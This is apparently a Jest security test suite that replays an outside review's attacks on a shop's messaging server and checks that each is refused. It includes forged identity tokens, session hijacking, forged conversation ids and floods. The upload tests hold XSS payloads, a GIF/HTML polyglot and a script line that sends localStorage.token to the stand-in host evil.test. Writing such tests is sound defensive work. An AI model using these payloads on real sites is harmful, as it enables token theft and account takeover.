import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { openDb } from '../../server/db/connection';
import { type RunningShop, startShop } from '../e2e/support/server';
import { type Ack, Client, sleep } from '../messaging/helpers';
import { recordReliability } from '../support/reliability';

/**
 * The outside review's attacks on the messaging side, against the real server as `npm start` runs it
 * (server/main.ts in a child process, default configuration, demo data): the product API hands out
 * identity proofs, the shop's groups and admin-assigned agents decide who reads what, and /oss keeps
 * files. Every attack goes through a raw socket.io client or plain HTTP, as an attacker's would, and is
 * counted: tried, and refused as it must be.
 */
jest.setTimeout(120_000);

const SUPPORT = 'lensmate-support';
const PASSWORD = 'Attack#2026pass';

interface Account {
  id: string;
  token: string;
}

let shop: RunningShop;
const clients: Client[] = [];
const tallies = new Map<string, { tried: number; refused: number }>();

/** Counts one attack of `suite`; `refused` says whether the server refused it as it must. */
function attack(suite: string, refused: boolean): boolean {
  const tally = tallies.get(suite) ?? { tried: 0, refused: 0 };
  tally.tried += 1;
  if (refused) tally.refused += 1;
  tallies.set(suite, tally);
  return refused;
}

async function api<T = any>(
  path: string,
  body: unknown,
  token = '',
): Promise<{ status: number; msg: string; data: T }> {
  const response = await fetch(`${shop.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { 'lensmate-token': token } : {}) },
    body: JSON.stringify(body),
  });
  return (await response.json()) as { status: number; msg: string; data: T };
}

async function login(email: string, password: string): Promise<Account> {
  const answer = await api<{ user_id: number; token: string }>('/api/auth/login', { email, password });
  if (answer.status !== 200) throw new Error(`login ${email}: ${answer.msg}`);
  return { id: String(answer.data.user_id), token: answer.data.token };
}

async function register(name: string): Promise<Account & { email: string }> {
  const email = `${name}@attack.test`;
  const answer = await api<{ user_id: number; token: string }>('/api/auth/register', {
    email,
    password: PASSWORD,
    nickname: name,
  });
  if (answer.status !== 200) throw new Error(`register ${email}: ${answer.msg}`);
  return { id: String(answer.data.user_id), token: answer.data.token, email };
}

async function proof(account: Account): Promise<string> {
  const answer = await api<{ otp: string; userId: string }>('/api/messaging/token', {}, account.token);
  if (answer.status !== 200) throw new Error(`messaging token: ${answer.msg}`);
  return answer.data.otp;
}

function client(): Client {
  const created = new Client(shop.url);
  clients.push(created);
  return created;
}

/** A socket authorized as the account with the proof the shop issued it. */
async function connect(account: Account, extra: Record<string, unknown> = {}): Promise<{ socket: Client; ack: Ack }> {
  const socket = client();
  const ack = await socket.authorize({
    userId: account.id,
    userData: JSON.stringify({ name: account.id }),
    otp: await proof(account),
    ...extra,
  });
  if (ack.code !== 200) throw new Error(`authorize ${account.id}: ${JSON.stringify(ack)}`);
  return { socket, ack };
}

async function anonymous(): Promise<Client> {
  const socket = client();
  const ack = await socket.authorize({ modules: ['PUBSUB', 'IM'] });
  if (ack.code !== 200) throw new Error(`anonymous authorize: ${JSON.stringify(ack)}`);
  return socket;
}

async function disconnected(socket: Client, timeoutMs = 5000): Promise<boolean> {
  for (const started = Date.now(); Date.now() - started < timeoutMs; ) {
    if (!socket.socket.connected) return true;
    await sleep(20);
  }
  return false;
}

const text = (value: string) => JSON.stringify({ text: value });
let seq = 0;
function guid(label: string): string {
  seq += 1;
  return `atk-${label}-${seq}-${Date.now()}`;
}

let admin: Account;
let ada: Account;
let ben: Account;
let eve: Account & { email: string };
let friendsGroup: string;

beforeAll(async () => {
  // Many logins from one address: the HTTP login limit is not what is under test here.
  shop = await startShop({ AUTH_RATE_LIMIT_MAX: '500', LOG_LEVEL: 'warn' });
  admin = await login('admin@lensmate.test', 'Admin#2026pass');
  ada = await login('ada@lensmate.test', 'Shopper#2026a');
  ben = await login('ben@lensmate.test', 'Shopper#2026b');
  eve = await register('eve');
  const groups = await api<{ group_id: number; name: string }[]>('/api/social/groups', {}, ada.token);
  friendsGroup = String(groups.data.find((group) => group.name === 'Lensmate friends')?.group_id);
});

afterAll(async () => {
  for (const socket of clients) socket.close();
  for (const [suite, tally] of tallies) recordReliability({ suite, payloads: tally.tried, refused: tally.refused });
  await shop?.stop();
});

describe('1. identity is proven, never claimed', () => {
  const suite = 'attack-messaging-identity';

  it('refuses an id without a proof, with another user’s proof, or with a forged one', async () => {
    const none = await client().authorize({ userId: ada.id, userData: '{}' });
    expect(attack(suite, none.code === 401)).toBe(true);
    const others = await client().authorize({ userId: ada.id, otp: await proof(eve) });
    expect(attack(suite, others.code === 401)).toBe(true);
    // The proof's claims say Eve; rewritten to say Ada, the signature no longer matches.
    const [payload, signature] = (await proof(eve)).split('.');
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
    const forged = `${Buffer.from(JSON.stringify({ ...claims, u: ada.id })).toString('base64url')}.${signature}`;
    const rewritten = await client().authorize({ userId: ada.id, otp: forged });
    expect(attack(suite, rewritten.code === 401)).toBe(true);
    for (const otp of ['', 'x.y', 'null', 'a'.repeat(5000)]) {
      const answer = await client().authorize({ userId: ada.id, otp });
      expect(attack(suite, answer.code === 401)).toBe(true);
    }
  });

  it('does not let a stolen session id stand in for the proof', async () => {
    const { ack } = await connect(ada);
    const hijack = await client().authorize({ userId: ada.id, sid: ack.sid, sm: ack.sm });
    expect(attack(suite, hijack.code === 401 || hijack.sid !== ack.sid)).toBe(true);
    expect(hijack.code).toBe(401);
  });

  it('ends the proof and closes the open session at logout', async () => {
    const session = await login('ben@lensmate.test', 'Shopper#2026b');
    const otp = await proof(session);
    const { socket, ack } = await connect(session, { otp });
    expect((await api('/api/auth/logout', {}, session.token)).status).toBe(200);
    expect(attack(suite, await disconnected(socket))).toBe(true);
    const again = await client().authorize({ userId: session.id, otp });
    expect(attack(suite, again.code === 401)).toBe(true);
    const resumed = await client().authorize({ userId: session.id, otp, sid: ack.sid });
    expect(attack(suite, resumed.code === 401)).toBe(true);
    // Ben's other login is untouched.
    expect((await connect(ben)).ack.code).toBe(200);
  });

  it('ends every proof and closes every open session of the user at a password change', async () => {
    const pat = await register('pat');
    const phone = await login(pat.email, PASSWORD);
    const onPhone = await connect(phone);
    const onDesk = await connect(pat);
    const stolen = await proof(phone);
    const changed = await api<{ token: string }>(
      '/api/user/change_password',
      { old_password: PASSWORD, new_password: 'Changed#2026pass' },
      pat.token,
    );
    expect(changed.status).toBe(200);
    expect(attack(suite, await disconnected(onPhone.socket))).toBe(true);
    expect(attack(suite, await disconnected(onDesk.socket))).toBe(true);
    const replay = await client().authorize({ userId: pat.id, otp: stolen });
    expect(attack(suite, replay.code === 401)).toBe(true);
    const resumed = await client().authorize({ userId: pat.id, otp: stolen, sid: onDesk.ack.sid });
    expect(attack(suite, resumed.code === 401)).toBe(true);
    // The new login's proof works.
    expect((await connect({ id: pat.id, token: changed.data.token })).ack.code).toBe(200);
  });

  it('lets an anonymous connection use channels, and nothing else', async () => {
    const stranger = await anonymous();
    expect(await stranger.request('subscribe', { channels: ['news'] })).toMatchObject({ code: 200 });
    expect(await stranger.request('publish', { channel: 'news', content: 'hi', guid: guid('anon') })).toMatchObject({
      code: 200,
    });
    const refusedRequests: [string, Record<string, unknown>][] = [
      ['IM_HISTORY', { scene: 'private', id: ada.id }],
      ['IM_HISTORY', { scene: 'group', id: friendsGroup }],
      ['IM_HISTORY_CHANGE', { scene: 'private', id: ada.id }],
      ['imLastConversations', {}],
      ['publishIM', { mt: 'text', to: ada.id, d: '{}', p: text('hi'), t: 'private', guid: guid('anon') }],
      ['IM_MARK_AS_READ', { scene: 'private', id: ada.id, lastTimestamp: Date.now() }],
      ['uploadToken', { filename: 'a.png' }],
      ['subscribeUserPresence', { userIds: [ada.id] }],
      ['imHereNow', { userIds: [ada.id] }],
      ['subscribeGroups', { groupIds: [friendsGroup] }],
      ['subscribeGroupPresence', { groupIds: [friendsGroup] }],
      ['imGroupOnlineCount', { groupId: friendsGroup }],
      ['PUBSUB_PRESENCE_HERENOW', { channel: 'news' }],
      ['CS_ONLINE', { teamId: SUPPORT, teamData: '{}', agentData: '{}' }],
      ['CS_CUSTOMER_STATUS', { teamId: SUPPORT, customerId: ada.id }],
      ['SET_IOS_BADGE', { badge: 1 }],
    ];
    for (const [event, payload] of refusedRequests) {
      const answer = await stranger.request(event, payload);
      expect([event, attack(suite, answer.code === 401)]).toEqual([event, true]);
    }
  });
});

describe('2. conversations of other scenes and users cannot be named', () => {
  const suite = 'attack-messaging-isolation';
  let privateKey: string;

  beforeAll(async () => {
    const { socket: adaSocket } = await connect(ada);
    const sent = await adaSocket.request('publishIM', {
      mt: 'text',
      to: ben.id,
      d: '{}',
      p: text('our private secret'),
      t: 'private',
      guid: guid('private'),
    });
    expect(sent.code).toBe(200);
    const asked = await adaSocket.request('publishIM', {
      mt: 'text',
      to: SUPPORT,
      tid: SUPPORT,
      d: '{}',
      p: text('my prescription question'),
      t: 'cs',
      guid: guid('cs'),
    });
    expect(asked.code).toBe(200);
    // How the private conversation used to be stored: the larger id first.
    privateKey = ada.id.localeCompare(ben.id) > 0 ? `${ada.id}:${ben.id}` : `${ben.id}:${ada.id}`;
  });

  const leaked = (answer: Ack) =>
    JSON.stringify(answer).includes('secret') || JSON.stringify(answer).includes('prescription');

  it('refuses group ids shaped like a private or a customer-service key, from a user or a stranger', async () => {
    const { socket: eveSocket } = await connect(eve);
    const stranger = await anonymous();
    const forgedIds = [
      privateKey,
      `${SUPPORT}|${ada.id}`,
      `${SUPPORT}:${ada.id}`,
      `p:${privateKey}`,
      `c:${SUPPORT}:${ada.id}`,
    ];
    for (const socket of [eveSocket, stranger]) {
      for (const id of forgedIds) {
        for (const event of ['IM_HISTORY', 'IM_HISTORY_CHANGE']) {
          const answer = await socket.request(event, { scene: 'group', id, limit: 30 });
          expect(attack(suite, Number(answer.code) >= 400 && !leaked(answer))).toBe(true);
        }
        const read = await socket.request('IM_MARK_AS_READ', { scene: 'group', id, lastTimestamp: Date.now() });
        expect(attack(suite, Number(read.code) >= 400)).toBe(true);
        const post = await socket.request('publishIM', {
          mt: 'text',
          to: id,
          d: '{}',
          p: text('injected'),
          t: 'group',
          guid: guid('inject'),
        });
        expect(attack(suite, Number(post.code) >= 400)).toBe(true);
      }
    }
    const { socket: benSocket } = await connect(ben);
    const history = await benSocket.request('IM_HISTORY', { scene: 'private', id: ada.id, limit: 30 });
    expect(JSON.stringify(history.content.messages)).not.toContain('injected');
  });

  it('refuses another customer’s support conversation and recalls in someone else’s', async () => {
    const { socket: eveSocket } = await connect(eve);
    // Going online as an agent of the team was the way in: refused, and reading is still refused.
    const online = await eveSocket.request('CS_ONLINE', { teamId: SUPPORT, teamData: '{}', agentData: '{}' });
    expect(attack(suite, online.code === 401)).toBe(true);
    const history = await eveSocket.request('IM_HISTORY', { scene: 'cs', id: ada.id, teamId: SUPPORT, limit: 30 });
    expect(attack(suite, history.code === 401 && !leaked(history))).toBe(true);
    const status = await eveSocket.request('CS_CUSTOMER_STATUS', { teamId: SUPPORT, customerId: ada.id });
    expect(attack(suite, status.code === 401)).toBe(true);
    const { socket: benSocket } = await connect(ben);
    const own = await benSocket.request('IM_HISTORY', { scene: 'cs', id: ada.id, teamId: SUPPORT, limit: 30 });
    expect(attack(suite, own.code === 401 && !leaked(own))).toBe(true);
    const recall = await eveSocket.request('IM_RECALL_MESSAGE', { scene: 'group', targetId: privateKey, times: [1] });
    expect(attack(suite, Number(recall.code) >= 400)).toBe(true);
  });

  it('validates ids: type, length and characters', async () => {
    const { socket: eveSocket } = await connect(eve);
    const cases: [unknown, RegExp][] = [
      [{ nested: true }, /require string or number/],
      ['x'.repeat(61), /over max length 60/],
      ['a:b', /may only contain/],
      ['a|b', /may only contain/],
      ['../etc', /may only contain/],
      ['a b', /may only contain/],
    ];
    for (const [id, message] of cases) {
      const answer = await eveSocket.request('IM_HISTORY', { scene: 'private', id });
      expect(attack(suite, answer.code === 400 && message.test(String(answer.content)))).toBe(true);
    }
  });
});

describe('3. the shop’s groups decide who is in a group chat', () => {
  const suite = 'attack-messaging-groups';

  it('refuses a non-member every read, post and presence request of a group', async () => {
    const { socket: benSocket } = await connect(ben);
    expect(await benSocket.request('subscribeGroups', { groupIds: [friendsGroup] })).toMatchObject({ code: 200 });
    const posted = await benSocket.request('publishIM', {
      mt: 'text',
      to: friendsGroup,
      d: '{}',
      p: text('members only'),
      t: 'group',
      guid: guid('group'),
    });
    expect(posted.code).toBe(200);
    const outsider = await register('oscar');
    const { socket } = await connect(outsider);
    const requests: [string, Record<string, unknown>][] = [
      ['IM_HISTORY', { scene: 'group', id: friendsGroup, limit: 30 }],
      ['IM_HISTORY_CHANGE', { scene: 'group', id: friendsGroup }],
      ['IM_MARK_AS_READ', { scene: 'group', id: friendsGroup, lastTimestamp: Date.now() }],
      ['publishIM', { mt: 'text', to: friendsGroup, d: '{}', p: text('gatecrash'), t: 'group', guid: guid('gc') }],
      ['imGroupHereNow', { groupId: friendsGroup }],
      ['imGroupOnlineCount', { groupId: friendsGroup }],
      ['subscribeGroupPresence', { groupIds: [friendsGroup] }],
    ];
    for (const [event, payload] of requests) {
      const answer = await socket.request(event, payload);
      expect([event, attack(suite, answer.code === 401 && !JSON.stringify(answer).includes('members only'))]).toEqual([
        event,
        true,
      ]);
    }
    // Groups the shop does not have cannot be joined by naming them.
    for (const groupId of ['999999', 'made-up']) {
      const answer = await socket.request('subscribeGroups', { groupIds: [groupId] });
      expect(attack(suite, answer.code === 404)).toBe(true);
    }
    // A member still reads it.
    const history = await benSocket.request('IM_HISTORY', { scene: 'group', id: friendsGroup, limit: 30 });
    expect(JSON.stringify(history.content.messages)).toContain('members only');
  });

  it('joins by the shop’s rules: subscribing makes a member the shop lists', async () => {
    const newcomer = await register('nina');
    const { socket } = await connect(newcomer);
    expect(await socket.request('subscribeGroups', { groupIds: [friendsGroup] })).toMatchObject({ code: 200 });
    const members = await api<{ user_id: number }[]>(
      '/api/social/group_members',
      { group_id: Number(friendsGroup) },
      newcomer.token,
    );
    expect(members.data.map((member) => String(member.user_id))).toContain(newcomer.id);
    expect((await socket.request('IM_HISTORY', { scene: 'group', id: friendsGroup })).code).toBe(200);
  });
});

describe('4. only the agents the shop assigns act for its support team', () => {
  const suite = 'attack-messaging-cs';

  it('refuses a shopper going online, accepting, transferring, ending, watching or renaming the team', async () => {
    const { socket: adaSocket } = await connect(ada);
    await adaSocket.request('publishIM', {
      mt: 'text',
      to: SUPPORT,
      tid: SUPPORT,
      d: '{}',
      p: text('help'),
      t: 'cs',
      guid: guid('cs'),
    });
    const { socket } = await connect(eve);
    const requests: [string, Record<string, unknown>][] = [
      ['CS_ONLINE', { teamId: SUPPORT, teamData: '{"name":"Pwned"}', agentData: '{"name":"Eve"}' }],
      ['CS_ACCEPT', { teamId: SUPPORT, customer: { id: ada.id, data: '{"name":"Ada"}' } }],
      ['CS_END', { teamId: SUPPORT, customerId: ada.id }],
      ['CS_TRANSFER', { teamId: SUPPORT, customerId: ada.id, agentId: eve.id }],
      ['CS_LIVE_SESSION', { teamId: SUPPORT, customerId: ada.id }],
      ['CS_CUSTOMER_STATUS', { teamId: SUPPORT, customerId: ada.id }],
      ['IM_HISTORY', { scene: 'cs', id: ada.id, teamId: SUPPORT }],
      ['IM_MARK_AS_READ', { scene: 'cs', id: ada.id, teamId: SUPPORT, lastTimestamp: Date.now() }],
      [
        'publishIM',
        { mt: 'text', to: ada.id, tid: SUPPORT, d: '{}', p: text('I am support'), t: 'cs', guid: guid('x') },
      ],
    ];
    for (const [event, payload] of requests) {
      const answer = await socket.request(event, payload);
      expect([event, attack(suite, answer.code === 401)]).toEqual([event, true]);
    }
    const pending = await socket.request('CS_PENDING_CONVERSATION', {});
    expect(attack(suite, pending.code === 200 && pending.content.length === 0)).toBe(true);
    // The team's name is unchanged: the admin, an agent, still sees it.
    const { socket: adminSocket } = await connect(admin);
    expect(
      await adminSocket.request('CS_ONLINE', {
        teamId: SUPPORT,
        teamData: '{"name":"Lensmate support"}',
        agentData: '{"name":"Admin"}',
      }),
    ).toMatchObject({ code: 200 });
    const transfer = await adminSocket.request('CS_TRANSFER', { teamId: SUPPORT, customerId: ada.id, agentId: eve.id });
    expect(attack(suite, Number(transfer.code) >= 400)).toBe(true);
  });

  it('lets only an admin assign and remove agents, and a removed agent leaves at once', async () => {
    for (const token of ['', eve.token, ada.token]) {
      const answer = await api('/api/admin/cs_agent_assign', { team_id: SUPPORT, email: eve.email }, token);
      expect(attack(suite, answer.status === 403)).toBe(true);
      const listed = await api('/api/admin/cs_agents', { team_id: SUPPORT }, token);
      expect(attack(suite, listed.status === 403)).toBe(true);
    }
    const assigned = await api<{ user_id: number }[]>(
      '/api/admin/cs_agent_assign',
      { team_id: SUPPORT, email: eve.email },
      admin.token,
    );
    expect(assigned.data.map((agent) => String(agent.user_id))).toContain(eve.id);
    const { socket } = await connect(eve);
    expect(
      await socket.request('CS_ONLINE', { teamId: SUPPORT, teamData: '{"name":"Lensmate support"}', agentData: '{}' }),
    ).toMatchObject({ code: 200 });
    const removed = await api('/api/admin/cs_agent_remove', { team_id: SUPPORT, user_id: Number(eve.id) }, admin.token);
    expect(removed.status).toBe(200);
    await socket.waitFor('CS_ONLINE_CHANGED');
    expect(socket.received.CS_ONLINE_CHANGED.at(-1)).toEqual({ teamId: SUPPORT, online: false });
    const seen = socket.count('imMessage');
    const customer = await register('carl');
    const { socket: carlSocket } = await connect(customer);
    await carlSocket.request('publishIM', {
      mt: 'text',
      to: SUPPORT,
      tid: SUPPORT,
      d: '{}',
      p: text('anyone there?'),
      t: 'cs',
      guid: guid('carl'),
    });
    const accept = await socket.request('CS_ACCEPT', {
      teamId: SUPPORT,
      customer: { id: customer.id, data: '{"name":"Carl"}' },
    });
    expect(attack(suite, accept.code === 401)).toBe(true);
    await sleep(300);
    expect(attack(suite, socket.count('imMessage') === seen)).toBe(true);
  });
});

describe('5 and 6. /oss: own keys only, checked content, escaped errors, signed private reads', () => {
  const suite = 'attack-messaging-uploads';
  interface AliToken {
    host: string;
    dir: string;
    accessKeyId: string;
    policy: string;
    signature: string;
    newFilename: string;
  }

  function form(fields: Record<string, string>, body: string | Buffer, name = 'file.bin') {
    const data = new FormData();
    for (const [field, value] of Object.entries(fields)) data.append(field, value);
    data.append('file', new Blob([typeof body === 'string' ? body : new Uint8Array(body)]), name);
    return data;
  }

  const fieldsOf = (token: AliToken, key = `${token.dir}/${token.newFilename}`) => ({
    key,
    OSSAccessKeyId: token.accessKeyId,
    policy: token.policy,
    signature: token.signature,
    success_action_status: '200',
  });

  const uploadPath = () => `${shop.url}/oss`;
  const ossSecret = () => readFileSync(join(shop.dataDir, 'oss-secret'), 'utf8').trim();

  function signedPolicy(secret: string, conditions: unknown[]) {
    const policy = Buffer.from(
      JSON.stringify({ expiration: new Date(Date.now() + 60_000).toISOString(), conditions }),
    ).toString('base64');
    return { policy, signature: createHmac('sha1', secret).update(policy).digest('base64') };
  }

  it('gives an anonymous connection no upload token, and a user keys under their own prefix only', async () => {
    const stranger = await anonymous();
    expect(attack(suite, (await stranger.request('uploadToken', { filename: 'a.png' })).code === 401)).toBe(true);
    const { socket } = await connect(ada);
    const token = (await socket.request('uploadToken', { filename: 'note.txt' })).content as AliToken;
    expect(token.dir).toContain(`/u-${ada.id}/`);
    const onto = token.dir.replace(`u-${ada.id}`, `u-${ben.id}`);
    const elsewhere = await fetch(token.host, {
      method: 'POST',
      body: form(fieldsOf(token, `${onto}/${token.newFilename}`), 'overwrite ben'),
    });
    expect(attack(suite, elsewhere.status === 403)).toBe(true);
    const first = await fetch(token.host, { method: 'POST', body: form(fieldsOf(token), 'first') });
    expect(first.status).toBe(200);
    const again = await fetch(token.host, { method: 'POST', body: form(fieldsOf(token), 'replaced') });
    expect(attack(suite, again.status === 409)).toBe(true);
    expect(await (await fetch(`${token.host}/${token.dir}/${token.newFilename}`)).text()).toBe('first');
  });

  it('refuses markup and mislabelled media, by name and by content', async () => {
    const { socket } = await connect(ada);
    for (const filename of ['x.svg', 'x.html', 'x.htm', 'x.xhtml', 'x.xml', 'x.js']) {
      const answer = await socket.request('uploadToken', { filename });
      expect(attack(suite, answer.code === 400 && answer.content === 'wrong file type.')).toBe(true);
    }
    const bodies: [string, string][] = [
      ['png', '<html><script>alert(document.domain)</script></html>'],
      [
        'jpg',
        '<svg xmlns="http://www.w3.org/2000/svg"><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></svg>',
      ],
      ['txt', '<!DOCTYPE html><p>hi<script>alert(1)</script>'],
      ['pdf', '  <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "&#60;script&#62;">]><x>&e;</x>'],
      ['gif', 'not a gif at all'],
    ];
    for (const [extension, body] of bodies) {
      const token = (await socket.request('uploadToken', { filename: `f.${extension}` })).content as AliToken;
      const answer = await fetch(token.host, { method: 'POST', body: form(fieldsOf(token), body) });
      expect([extension, attack(suite, answer.status === 400)]).toEqual([extension, true]);
    }
  });

  it('signs with a generated secret, enforces the signed size, and escapes its error page', async () => {
    const xhtmlScript =
      '<x:script xmlns:x="http://www.w3.org/1999/xhtml">fetch("//evil.test/"+localStorage.token)</x:script>';
    // What the review did: a policy signed with the secret that used to be the default.
    const old = signedPolicy('lensmate-local-secret', [['starts-with', '$key', xhtmlScript]]);
    const answer = await fetch(uploadPath(), {
      method: 'POST',
      body: form({ key: 'im/x', OSSAccessKeyId: 'lensmate-local', ...old }, 'x'),
    });
    const page = await answer.text();
    expect(attack(suite, answer.status === 403 && !page.includes('<x:script'))).toBe(true);
    // Even a policy signed with the real secret cannot put markup on the error page.
    const secret = ossSecret();
    expect(secret.length).toBeGreaterThanOrEqual(32);
    const real = signedPolicy(secret, [
      ['eq', '$key', 'im/u-1/a.txt'],
      ['starts-with', '$key', xhtmlScript],
    ]);
    const escaped = await fetch(uploadPath(), {
      method: 'POST',
      body: form({ key: 'im/u-1/b.txt', OSSAccessKeyId: 'lensmate-local', ...real }, 'x'),
    });
    const escapedPage = await escaped.text();
    expect(attack(suite, !escapedPage.includes('<x:script') && !escapedPage.includes('<script'))).toBe(true);
    expect(escaped.headers.get('x-content-type-options')).toBe('nosniff');
    const small = signedPolicy(secret, [
      ['eq', '$key', 'im/u-1/small.txt'],
      ['content-length-range', 1, 10],
    ]);
    const big = await fetch(uploadPath(), {
      method: 'POST',
      body: form({ key: 'im/u-1/small.txt', OSSAccessKeyId: 'lensmate-local', ...small }, 'x'.repeat(11)),
    });
    expect(attack(suite, big.status === 400)).toBe(true);
  });

  it('serves a file only through a valid, unexpired grant, typed by its content, sandboxed and private', async () => {
    const { socket } = await connect(ada);
    const token = (await socket.request('uploadToken', { filename: 'pic.gif' })).content as AliToken;
    // A GIF that is also an HTML page: served as the image it starts as, never as markup.
    const polyglot = Buffer.concat([Buffer.from('GIF89a'), Buffer.from('<html><script>alert(1)</script></html>')]);
    expect((await fetch(token.host, { method: 'POST', body: form(fieldsOf(token), polyglot) })).status).toBe(200);
    const url = `${token.host}/${token.dir}/${token.newFilename}`;
    const served = await fetch(url);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/gif');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
    expect(served.headers.get('cache-control')).toMatch(/^private, max-age=\d+$/);
    const key = `${token.dir}/${token.newFilename}`;
    const [, expires, signature] = /~s\/(\d+)\/([\w-]+)$/.exec(token.host) ?? [];
    const secret = ossSecret();
    const sign = (at: number, forKey: string) =>
      createHmac('sha256', secret).update(`read\n${at}\n${forKey}`).digest('base64url').slice(0, 32);
    const past = Math.floor(Date.now() / 1000) - 10;
    const attempts = [
      `${uploadPath()}/${key}`,
      `${uploadPath()}/~s/${expires}/${signature.replace(/^./, (c) => (c === 'A' ? 'B' : 'A'))}/${key}`,
      `${uploadPath()}/~s/${Number(expires) + 3600}/${signature}/${key}`,
      `${uploadPath()}/~s/${past}/${sign(past, key)}/${key}`,
      `${uploadPath()}/~s/${expires}/${signature}/${key.replace(`u-${ada.id}`, `u-${ben.id}`)}`,
    ];
    for (const attempt of attempts) {
      const answer = await fetch(attempt);
      expect(attack(suite, answer.status === 403)).toBe(true);
    }
  });

  it('signs a file for a conversation only when the sender owns it', async () => {
    const { socket: adaSocket } = await connect(ada);
    const token = (await adaSocket.request('uploadToken', { filename: 'private.png' })).content as AliToken;
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    expect((await fetch(token.host, { method: 'POST', body: form(fieldsOf(token), png) })).status).toBe(200);
    const unsigned = `${uploadPath()}/${token.dir}/${token.newFilename}`;
    // Eve names Ada's file in her own message to Ben: nobody gets a grant for it.
    const { socket: eveSocket } = await connect(eve);
    const payload = JSON.stringify({ url: unsigned, name: 'x.png', size: 16, contentType: 'image/png' });
    expect(
      await eveSocket.request('publishIM', {
        mt: 'image',
        to: ben.id,
        d: '{}',
        p: payload,
        t: 'private',
        guid: guid('img'),
      }),
    ).toMatchObject({ code: 200 });
    const { socket: benSocket } = await connect(ben);
    const history = await benSocket.request('IM_HISTORY', { scene: 'private', id: eve.id, limit: 5 });
    const delivered = JSON.parse(history.content.messages.at(-1).p).url as string;
    expect(attack(suite, !delivered.includes('/~s/') && (await fetch(delivered)).status === 403)).toBe(true);
    // Ada sends it herself: Ben, a member of the conversation, reads it.
    const own = JSON.stringify({ url: `${token.host}/${token.dir}/${token.newFilename}`, name: 'p.png', size: 16 });
    await adaSocket.request('publishIM', { mt: 'image', to: ben.id, d: '{}', p: own, t: 'private', guid: guid('own') });
    const fromAda = await benSocket.request('IM_HISTORY', { scene: 'private', id: ada.id, limit: 5 });
    const readable = JSON.parse(fromAda.content.messages.at(-1).p).url as string;
    expect((await fetch(readable)).status).toBe(200);
  });
});

describe('7. template messages go only to the recorded user, from the allow-list', () => {
  const suite = 'attack-messaging-templates';

  it('refuses a template id the configuration does not allow and never sends to a client-chosen openid', async () => {
    const { socket } = await connect(eve);
    const answer = await socket.request('publishIM', {
      mt: 'text',
      to: ada.id,
      d: '{}',
      p: text('hello'),
      t: 'private',
      guid: guid('wx'),
      wxmpTemplateMsg: { template_id: 'PHISHING', touser: 'OPENID-OF-ANYONE', data: '{"first":{"value":"x"}}' },
    });
    expect(attack(suite, answer.code === 400 && /not allowed/.test(answer.content))).toBe(true);
    await sleep(200);
    const handle = openDb(join(shop.dataDir, 'lensmate.sqlite'));
    try {
      const rows = await handle.db.selectFrom('msg_outbox').select('body').where('kind', '=', 'wxmp').execute();
      expect(
        attack(
          suite,
          rows.every((row) => !String(row.body).includes('OPENID-OF-ANYONE')),
        ),
      ).toBe(true);
    } finally {
      await handle.close();
    }
  });
});

describe('8. floods and oversized messages', () => {
  const suite = 'attack-messaging-limits';

  it('refuses most of 300 messages sent at once on one connection, with 429', async () => {
    const flooder = await register('flo');
    const { socket } = await connect(flooder);
    const answers = await Promise.all(
      Array.from({ length: 300 }, (_, i) =>
        socket.request('publishIM', {
          mt: 'text',
          to: ada.id,
          d: '{}',
          p: text(`f${i}`),
          t: 'private',
          guid: guid('f'),
        }),
      ),
    );
    const accepted = answers.filter((answer) => answer.code === 200).length;
    const refused = answers.filter((answer) => answer.code === 429);
    tallies.set(suite, {
      tried: (tallies.get(suite)?.tried ?? 0) + answers.length,
      refused: (tallies.get(suite)?.refused ?? 0) + refused.length,
    });
    // At most two one-second windows' worth get through.
    expect(accepted).toBeLessThanOrEqual(20);
    expect(refused.length).toBe(300 - accepted);
    expect(refused[0].content).toBe('Too many messages: at most 10 per second on one connection');
  });

  it('counts a user’s messages over all their connections', async () => {
    const flooder = await register('flora');
    const sockets = await Promise.all([1, 2, 3, 4].map(() => connect(flooder)));
    const answers = await Promise.all(
      sockets.flatMap(({ socket }) =>
        Array.from({ length: 10 }, (_, i) =>
          socket.request('publish', { channel: 'flood', content: `c${i}`, guid: guid('c') }),
        ),
      ),
    );
    const perUser = answers.filter((answer) => answer.code === 429 && /for one user/.test(answer.content));
    expect(attack(suite, perUser.length > 0)).toBe(true);
    const accepted = answers.filter((answer) => answer.code === 200).length;
    expect(accepted).toBeLessThanOrEqual(40);
    // What was refused is not in the channel's history either: the limits come before anything is stored.
    const handle = openDb(join(shop.dataDir, 'lensmate.sqlite'));
    try {
      const stored = await handle.db
        .selectFrom('msg_pubsub_message')
        .select('guid')
        .where('channel', '=', 'flood')
        .execute();
      expect(stored).toHaveLength(accepted);
    } finally {
      await handle.close();
    }
  });

  it('holds every message type to a size', async () => {
    const sizer = await register('sid');
    const { socket } = await connect(sizer);
    const send = (mt: string, p: string) =>
      socket.request('publishIM', { mt, to: ada.id, d: '{}', p, t: 'private', guid: guid('size') });
    const cases: [string, string, string][] = [
      ['text', JSON.stringify({ text: 'x'.repeat(2500), pad: 'y'.repeat(600) }), 'message-length limit 3kb'],
      ['image', JSON.stringify({ url: 'x'.repeat(9000), name: 'a.png', size: 1 }), 'message-length limit 8kb'],
      ['file', JSON.stringify({ url: 'u', name: 'x'.repeat(9000), size: 1 }), 'message-length limit 8kb'],
      ['order', JSON.stringify({ lines: 'x'.repeat(9000) }), 'message-length limit 8kb'],
    ];
    for (const [mt, p, message] of cases) {
      const answer = await send(mt, p);
      expect([mt, attack(suite, answer.code === 400 && answer.content === message)]).toEqual([mt, true]);
    }
    const conversationData = await socket.request('publishIM', {
      mt: 'text',
      to: ada.id,
      d: JSON.stringify({ name: 'x'.repeat(2000) }),
      p: text('hi'),
      t: 'private',
      guid: guid('d'),
    });
    expect(attack(suite, conversationData.code === 400)).toBe(true);
    // A packet far over any message closes the connection instead of being read.
    socket.socket.emit('publish', { channel: 'big', content: 'z'.repeat(300_000) });
    expect(attack(suite, await disconnected(socket))).toBe(true);
  });
});
